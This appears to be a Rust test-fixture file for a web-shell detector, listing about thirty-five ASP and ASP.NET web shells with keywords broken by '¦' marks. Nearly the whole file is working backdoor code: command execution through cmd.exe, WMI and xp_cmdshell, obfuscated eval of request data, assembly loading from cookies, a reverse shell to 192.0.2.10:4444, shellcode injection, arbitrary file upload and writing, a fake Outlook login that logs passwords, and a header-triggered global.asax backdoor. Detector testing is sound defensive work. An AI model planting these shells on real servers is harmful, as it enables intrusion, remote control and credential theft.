//! Shapes that were written after the analyzer: its first try at them is what the documents report.

/// Name, file, text with bars.
pub(super) const SHAPES: &[(&str, &str, &str)] = &[
    (
        "several commands in a switch",
        "hub.aspx",
        "<%@ Page Language=\"C#\" ValidateRequest=\"false\" %>\n<%@ Import Namespace=\"System.IO\" %>\n<script run¦at=\"server\">\nprotected override void OnLoad(EventArgs e) {\n  string act = Requ¦est.Form[\"act\"], a1 = Requ¦est.Form[\"a1\"], a2 = Requ¦est.Form[\"a2\"], back = \"\";\n  try { switch (act) {\n    case \"A\": back = String.Join(\"|\", Directory.GetLogicalDrives()); break;\n    case \"B\": foreach (string d in Directory.GetDirectories(a1)) back += d + \"\\n\"; foreach (string f in Directory.GetFiles(a1)) back += f + \"\\n\"; break;\n    case \"C\": StreamReader r = new StreamReader(a1, Encoding.Default); back = r.ReadToEnd(); r.Close(); break;\n    case \"D\": Stream¦Writer w = new Stream¦Writer(a1, false, Encoding.Default); w.Wri¦te(a2); w.Close(); back = \"1\"; break;\n    case \"E\": if (Directory.Exists(a1)) Directory.Del¦ete(a1, true); else File.Del¦ete(a1); back = \"1\"; break;\n  } } catch (Exception x) { back = \"ERROR:// \" + x.Message; }\n  Response.Write(\"->|\" + back + \"|<-\");\n}\n</script>\n",
    ),
    (
        "vb command page",
        "tool.aspx",
        "<%@ Page Language=\"VB\" Debug=\"true\" %>\n<%@ Import Namespace=\"System.Diagnostics\" %>\n<script run¦at=\"server\">\nSub RunCmd(Src As Object, E As EventArgs)\n  Dim myProc As New Proc¦ess()\n  Dim startInfo As New Proc¦essStartInfo(\"cm¦d.exe\")\n  startInfo.UseShellExecute = False\n  startInfo.RedirectStandardOutput = True\n  startInfo.Arguments = \"/c \" & command.Text\n  myProc.StartInfo = startInfo\n  myProc.Sta¦rt()\n  result.Text = myProc.StandardOutput.ReadToEnd()\nEnd Sub\n</script>\n<form run¦at=\"server\"><asp:TextBox id=\"command\" run¦at=\"server\"/><asp:Button run¦at=\"server\" OnClick=\"RunCmd\"/><asp:Label id=\"result\" run¦at=\"server\"/></form>\n",
    ),
    (
        "vb shell function",
        "vbs.aspx",
        "<%@ Page Language=\"VB\" %>\n<script run¦at=\"server\">\nSub Page_Load(s As Object, e As EventArgs)\n  If Requ¦est.QueryString(\"go\") <> \"\" Then\n    Dim line As String = Requ¦est.QueryString(\"go\")\n    Sh¦ell(\"cm¦d.exe /c \" & line, AppWinStyle.Hide, True)\n  End If\nEnd Sub\n</script>\n",
    ),
    (
        "standard input of a shell",
        "in.aspx",
        "<%@ Page Language=\"C#\" %>\n<% \nSystem.Diagnostics.Proc¦ess p = new System.Diagnostics.Proc¦ess();\np.StartInfo.FileName = \"cm¦d.exe\";\np.StartInfo.UseShellExecute = false; p.StartInfo.RedirectStandardInput = true; p.StartInfo.RedirectStandardOutput = true;\np.Sta¦rt();\nSystem.IO.Stream¦Writer sw = p.StandardInput;\nsw.Wri¦teLine(Requ¦est.Params[\"k\"]);\nsw.WriteLine(\"exit\");\nResponse.Write(p.StandardOutput.ReadToEnd());\n%>\n",
    ),
    (
        "program and arguments chosen",
        "any.aspx",
        "<%@ Page Language=\"C#\" %>\n<script run¦at=\"server\">\nprivate string Launch(string exe, string args) {\n  var psi = new System.Diagnostics.Proc¦essStartInfo { FileName = exe, Arguments = args, RedirectStandardOutput = true, UseShellExecute = false };\n  using (var p = System.Diagnostics.Proc¦ess.St¦art(psi)) return p.StandardOutput.ReadToEnd();\n}\nprotected void Go(object o, EventArgs e) { lab.Text = \"<pre>\" + Server.HtmlEncode(Launch(path.Value, arg.Value)) + \"</pre>\"; }\n</script>\n<form run¦at=\"server\"><input type=\"text\" id=\"path\" run¦at=\"server\" value=\"c:\\windows\\system32\\cm¦d.exe\"/><input type=\"text\" id=\"arg\" run¦at=\"server\"/><asp:Label id=\"lab\" run¦at=\"server\"/><asp:Button OnClick=\"Go\" run¦at=\"server\"/></form>\n",
    ),
    (
        "wmi",
        "wmi.aspx",
        "<%@ Page Language=\"C#\" %>\n<%@ Assembly Name=\"System.Management, Version=2.0.0.0, Culture=neutral, PublicKeyToken=b03f5f7f11d50a3a\" %>\n<%@ Import Namespace=\"System.Management\" %>\n<% ManagementClass c = new ManagementClass(\"Win32_Proc¦ess\"); object[] a = { Requ¦est[\"c\"], null, null, 0 }; Response.Write(c.InvokeMeth¦od(\"Create\", a)); %>\n",
    ),
    (
        "assembly from a cookie",
        "ck.ashx",
        "<%@ WebHandler Language=\"C#\" Class=\"G\" %>\nusing System; using System.Web; using System.Reflection;\npublic class G : IHttpHandler {\n  public void ProcessRequest(HttpContext ctx) {\n    HttpCookie k = ctx.Requ¦est.Cookies[\"sid\"];\n    if (k == null) return;\n    byte[] raw = Convert.From¦Base64String(HttpUtility.UrlDecode(k.Value));\n    for (int i = 0; i < raw.Length; i++) raw[i] = (byte)(raw[i] ^ 0x5a);\n    Assem¦bly a = Assem¦bly.Lo¦ad(raw);\n    Type t = a.GetTypes()[0];\n    t.GetMethod(\"Go\").Invoke(Activator.CreateInstance(t), new object[] { ctx });\n  }\n  public bool IsReusable { get { return false; } }\n}\n",
    ),
    (
        "application domain and gzip",
        "gz.aspx",
        "<%@ Page Language=\"C#\" %>\n<%@ Import Namespace=\"System.IO\" %>\n<%@ Import Namespace=\"System.IO.Compression\" %>\n<script run¦at=\"server\">\nbyte[] Unpack(Stream s) { using (GZipStream g = new GZipStream(s, CompressionMode.Decompress)) using (MemoryStream m = new MemoryStream()) { g.CopyTo(m); return m.ToArray(); } }\nvoid Page_Load(object a, EventArgs b) { if (Requ¦est.ContentType == \"image/gif\") { object o = AppDomain.CurrentDomain.Lo¦ad(Unpack(Requ¦est.InputStream)).CreateInst¦ance(\"R\"); Response.Write(o.ToString()); } }\n</script>\n",
    ),
    (
        "names of types put together",
        "rf.aspx",
        "<%@ Page Language=\"C#\" %>\n<% \nType t = Type.GetType(\"System.Dia\" + \"gnostics.Pro\" + \"cess, System, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b77a5c561934e089\");\nobject r = t.GetMethod(\"St\" + \"art\", new Type[] { typeof(string), typeof(string) }).Invoke(null, new object[] { \"c\" + \"md\", \"/c \" + Requ¦est.Headers[\"Accept-Extra\"] });\n%>\n",
    ),
    (
        "jscript with escapes and an alias",
        "al.aspx",
        r#"<%@ Page Language="JScr¦ipt" %><% var a = Requ¦est["\x61\x62"]; var b = "un" + "safe"; var d = String.fromCharCode(101,118,97,108); \u0065\u0076al(a, b); %>"#,
    ),
    (
        "jscript through a function constructor",
        "fn.asp",
        r#"<%@ language=JScript %><% var f = new Func¦tion("q", String(Requ¦est("z"))); f(1); %>"#,
    ),
    (
        "jscript indexed by a text",
        "ix.asp",
        r#"<%@ language="javascript" %><% var g = this; var n = "la" + "ve"; g[n.split("").reverse().join("")](Requ¦est.Form("id") + ""); %>"#,
    ),
    (
        "activex of jscript",
        "ax.asp",
        "<%@ language=\"JScript\" %>\n<% var w = new ActiveXObject(\"WScript.Sh¦ell\"); var e = w.ex¦ec(\"cm¦d /c \" + Requ¦est(\"cmd\")); Response.Write(e.StdOut.ReadAll()); %>\n",
    ),
    (
        "object tag by class id",
        "cl.asp",
        "<object runat=\"server\" id=\"ws\" scope=\"page\" classid=\"clsid:72C24DD5-D70A-438B-8A42-98424B88AFB8\"></object>\n<%\nif request(\"c\") <> \"\" then\n  response.write ws.ex¦ec(\"cm¦d.exe /c \" & request(\"c\")).stdout.readall\nend if\n%>\n",
    ),
    (
        "shell of a chosen path",
        "sp.asp",
        "<%\nPath = Request(\"sp\")\nIf Path = \"\" Then Path = \"cm¦d.exe\"\nDefCmd = Request(\"cmd\")\nIf Request(\"wscript\") = \"yes\" Then\n  Set CM = CreateObject(\"WScr\" & \"ipt.Sh\" & \"ell\")\n  Set DD = CM.ex¦ec(Path & \" /c \" & DefCmd)\n  aaa = DD.stdout.readall\n  Response.Write aaa\nElse\n  Set fso = Server.CreateObject(\"Scripting.FileSystemObject\")\n  szTemp = Server.MapPath(\"cmd.txt\")\n  Call CM.R¦un(Path & \" /c \" & DefCmd & \" > \" & szTemp, 0, True)\nEnd If\n%>\n",
    ),
    (
        "vbscript split and join",
        "sj.asp",
        "<%\na = Split(\"101,120,101,99,117,116,101,32,114,101,113,117,101,115,116,40,34,109,34,41\", \",\")\nFor Each n In a\n  s = s & Chr(n)\nNext\nExecu¦teGlobal s\n%>\n",
    ),
    (
        "vbscript replaced marks",
        "rm.asp",
        r##"<% k = Replace("ex#e#cu#te(re#qu#est(""a9""))", "#", "") : exec¦ute k %>"##,
    ),
    (
        "vbscript hex pairs",
        "hx.asp",
        "<%\nFunction H(t)\n  Dim i, o\n  For i = 1 To Len(t) Step 2\n    o = o & Chr(CInt(\"&H\" & Mid(t, i, 2)))\n  Next\n  H = o\nEnd Function\nEv¦al(H(\"6576616C20726571756573742822702229\"))\n%>\n",
    ),
    (
        "vbscript class",
        "cs.asp",
        "<%\nClass Worker\n  Private v\n  Private Sub Class_Initialize\n    v = Requ¦est.Form(\"t\")\n  End Sub\n  Public Sub Go\n    Execu¦teGlobal v\n  End Sub\nEnd Class\nSet w = New Worker\nw.Go\n%>\n",
    ),
    (
        "vbscript unescaped",
        "un.asp",
        r#"<%@ language=JScript %><% ev¦al(unescape("%65%76%61%6c%28%52%65%71%75%65%73%74%2e%46%6f%72%6d%28%27%6b%27%29%2b%27%27%29")); %>"#,
    ),
    (
        "text file writer of classic asp",
        "tw.asp",
        "<form method=post>path:<input name=\"fp\"><textarea name=\"fc\"></textarea><input type=submit></form>\n<%\nif request.form(\"fp\") <> \"\" then\n  set fso = server.createobject(\"scripting.filesystemobject\")\n  set f = fso.createtext¦file(request.form(\"fp\"), true)\n  f.wri¦te request.form(\"fc\")\n  f.close\n  response.write server.mappath(request.servervariables(\"script_name\"))\nend if\n%>\n",
    ),
    (
        "stream of classic asp",
        "st.asp",
        "<%\nSet s = Server.CreateObject(\"ADODB.Str\" & \"eam\")\ns.Type = 2 : s.Open\ns.Charset = \"gb2312\"\ns.WriteText Requ¦est(\"d\")\ns.SaveTo¦File Server.MapPath(Requ¦est(\"n\")), 2\ns.Close\n%>\n",
    ),
    (
        "folder browser of classic asp",
        "fb.asp",
        "<%\nDim fso, dir, d, f\nSet fso = CreateObject(\"Scripting.FileSystemObject\")\ndir = Request.QueryString(\"d\")\nIf dir = \"\" Then dir = \"c:\\\"\nIf Request(\"get\") <> \"\" Then\n  Set ts = fso.OpenTextFile(Request(\"get\"), 1)\n  Response.Write Server.HTMLEncode(ts.ReadAll)\nEnd If\nIf Request(\"del\") <> \"\" Then fso.Delete¦File Request(\"del\"), True\nSet fd = fso.GetFolder(dir)\nFor Each d In fd.SubFolders : Response.Write d.Name & \"<br>\" : Next\nFor Each f In fd.Files : Response.Write f.Name & \" \" & f.Size & \"<br>\" : Next\nFor Each dr In fso.Drives : Response.Write dr.DriveLetter : Next\n%>\n",
    ),
    (
        "database console of classic asp",
        "db.asp",
        "<%\nIf Request.Form(\"cn\") <> \"\" Then\n  Set c = Server.CreateObject(\"ADODB.Connection\")\n  c.Open Request.Form(\"cn\")\n  Set rs = c.Execu¦te(Request.Form(\"sql\"))\n  Do While Not rs.EOF\n    Response.Write rs(0) & \"<br>\"\n    rs.MoveNext\n  Loop\nEnd If\n%>\n",
    ),
    (
        "xp command",
        "xp.aspx",
        "<%@ Page Language=\"C#\" %>\n<%@ Import Namespace=\"System.Data.SqlClient\" %>\n<% using (var c = new SqlConnection(\"Server=.;Integrated Security=true\")) { c.Open(); var q = c.CreateCommand(); q.CommandText = \"exec master..xp_cmdsh¦ell '\" + Requ¦est[\"x\"].Replace(\"'\", \"''\") + \"'\"; var r = q.ExecuteReader(); while (r.Read()) Response.Write(r[0] + \"\\n\"); } %>\n",
    ),
    (
        "reverse shell",
        "rs.aspx",
        "<%@ Page Language=\"C#\" %>\n<%@ Import Namespace=\"System.Net.Sockets\" %>\n<%@ Import Namespace=\"System.Diagnostics\" %>\n<script run¦at=\"server\">\nstatic StreamWriter w;\nprotected void Page_Load(object s, EventArgs e) {\n  using (TcpCli¦ent c = new TcpCli¦ent(\"192.0.2.10\", 4444)) {\n    Stream st = c.GetStream(); StreamReader r = new StreamReader(st); w = new StreamWriter(st);\n    Proc¦ess p = new Proc¦ess(); p.StartInfo.FileName = \"cm¦d.exe\"; p.StartInfo.RedirectStandardInput = true; p.StartInfo.RedirectStandardOutput = true; p.StartInfo.UseShellExecute = false;\n    p.OutputDataReceived += new DataReceivedEventHandler(Got); p.Sta¦rt(); p.BeginOutputReadLine();\n    while (true) { p.StandardInput.WriteLine(r.ReadLine()); }\n  }\n}\nstatic void Got(object s, DataReceivedEventArgs o) { w.WriteLine(o.Data); w.Flush(); }\n</script>\n",
    ),
    (
        "machine code",
        "mc.aspx",
        "<%@ Page Language=\"C#\" %>\n<%@ Import Namespace=\"System.Runtime.InteropServices\" %>\n<script run¦at=\"server\">\n[DllImport(\"kernel32\")] private static extern IntPtr Virtual¦Alloc(IntPtr a, UIntPtr s, Int32 t, IntPtr p);\n[DllImport(\"kernel32\")] private static extern IntPtr Create¦Thread(IntPtr a, UIntPtr s, IntPtr f, IntPtr p, Int32 c, ref IntPtr i);\nprotected void Page_Load(object o, EventArgs e) {\n  byte[] b = new byte[] { 0xfc, 0x48, 0x83, 0xe4, 0xf0 };\n  IntPtr m = Virtual¦Alloc(IntPtr.Zero, (UIntPtr)b.Length, 0x1000, (IntPtr)0x40);\n  Marshal.Copy(b, 0, m, b.Length);\n  IntPtr i = IntPtr.Zero;\n  Create¦Thread(IntPtr.Zero, UIntPtr.Zero, m, IntPtr.Zero, 0, ref i);\n}\n</script>\n",
    ),
    (
        "upload with a form",
        "uf.aspx",
        "<%@ Page Language=\"C#\" %>\n<script run¦at=\"server\">\nprotected void Send(object o, EventArgs e) { string to = System.IO.Path.Combine(where.Text, f.FileName); f.Save¦As(to); msg.Text = to; }\n</script>\n<form run¦at=\"server\"><asp:TextBox id=\"where\" run¦at=\"server\"/><asp:FileUpload id=\"f\" run¦at=\"server\"/><asp:Button run¦at=\"server\" OnClick=\"Send\"/><asp:Label id=\"msg\" run¦at=\"server\"/></form>\n",
    ),
    (
        "upload beside itself",
        "ub.aspx",
        "<%@ Page Language=\"C#\" %>\n<script run¦at=\"server\">\nprotected void Send(object o, EventArgs e) { if (f.HasFile) { f.Save¦As(Server.MapPath(\".\") + \"\\\\\" + f.FileName); } }\n</script>\n<form run¦at=\"server\"><asp:FileUpload id=\"f\" run¦at=\"server\"/><asp:Button run¦at=\"server\" OnClick=\"Send\"/></form>\n",
    ),
    (
        "base64 to a file",
        "bf.ashx",
        "<%@ WebHandler Language=\"C#\" Class=\"W\" %>\nusing System; using System.IO; using System.Web;\npublic class W : IHttpHandler {\n  public void ProcessRequest(HttpContext c) {\n    var q = c.Requ¦est;\n    string name = q[\"n\"]; string text = q[\"t\"];\n    if (!string.IsNullOrEmpty(name)) { File.Write¦AllBytes(c.Server.MapPath(name), Convert.From¦Base64String(text)); c.Response.Write(\"ok\"); }\n  }\n  public bool IsReusable { get { return true; } }\n}\n",
    ),
    (
        "soap service",
        "sv.svc",
        "<%@ ServiceHost Language=\"C#\" Debug=\"true\" Service=\"S\" %>\nusing System; using System.ServiceModel; using System.Diagnostics;\n[ServiceContract] public class S {\n  [OperationContract]\n  public string Ask(string text) {\n    var p = Proc¦ess.St¦art(new Proc¦essStartInfo(\"powersh¦ell\", \"-enc \" + text) { RedirectStandardOutput = true, UseShellExecute = false });\n    return p.StandardOutput.ReadToEnd();\n  }\n}\n",
    ),
    (
        "style sheet with a script",
        "xs.aspx",
        "<%@ Page Language=\"C#\" %>\n<%@ Import Namespace=\"System.Xml\" %>\n<%@ Import Namespace=\"System.Xml.Xsl\" %>\n<% string x = \"<?xml version='1.0'?><xsl:stylesheet version='1.0' xmlns:xsl='http://www.w3.org/1999/XSL/Transform' xmlns:msxsl='urn:schemas-microsoft-com:xslt' xmlns:z='u'><msxsl:script language='JScript' implements-prefix='z'>function x(){ev¦al(System.Web.HttpContext.Current.Requ¦est['q'],'unsafe');}</msxsl:script><xsl:template match='/root'><xsl:value-of select='z:x()'/></xsl:template></xsl:stylesheet>\"; XmlDocument d = new XmlDocument(); d.Load¦Xml(x); XmlDocument r = new XmlDocument(); r.LoadXml(\"<root/>\"); XslCompiledTrans¦form t = new XslCompiledTrans¦form(); t.Lo¦ad(d, XsltSettings.TrustedXslt, new XmlUrlResolver()); t.Transform(r, null, new System.IO.MemoryStream()); %>\n",
    ),
    (
        "passwords kept",
        "lg.aspx",
        "<%@ Page Language=\"C#\" %>\n<% if (Requ¦est.Form[\"username\"] != null) { System.IO.File.Append¦AllText(@\"C:\\Windows\\Temp\\~sys01.log\", Requ¦est.Form[\"username\"] + \":\" + Requ¦est.Form[\"password\"] + \"\\r\\n\"); Response.Redirect(\"/owa/auth/logon.aspx\"); } %>\n",
    ),
    (
        "encoded script page",
        "en.aspx",
        r#"<%@ Page Language="JScr¦ipt" %><%ev¦al(System.Text.Encoding.UTF8.GetString(System.Convert.From¦Base64String("ZXZhbChSZXF1ZXN0Lkl0ZW1bImFiYyJdLCJ1bnNhZmUiKTs=")),"unsafe");%>"#,
    ),
    (
        "razor file writer",
        "rw.cshtml",
        "@{\n    if (IsPost) {\n        var target = Requ¦est[\"target\"];\n        System.IO.File.Write¦AllText(target, Requ¦est.Unvalidated[\"content\"]);\n        <p>done @target</p>\n    }\n}\n<form method=\"post\"><input name=\"target\"/><textarea name=\"content\"></textarea></form>\n",
    ),
    (
        "global application",
        "global.asax",
        "<%@ Application Language=\"C#\" %>\n<script run¦at=\"server\">\nvoid Application_BeginRequest(object sender, EventArgs e) {\n  string c = HttpContext.Current.Requ¦est.Headers[\"X-Trace\"];\n  if (!String.IsNullOrEmpty(c)) {\n    System.Diagnostics.Proc¦ess p = new System.Diagnostics.Proc¦ess { StartInfo = { FileName = \"cm¦d\", Arguments = \"/c \" + c, UseShellExecute = false, RedirectStandardOutput = true } };\n    p.Sta¦rt(); Response.Write(p.StandardOutput.ReadToEnd()); Response.End();\n  }\n}\n</script>\n",
    ),
];
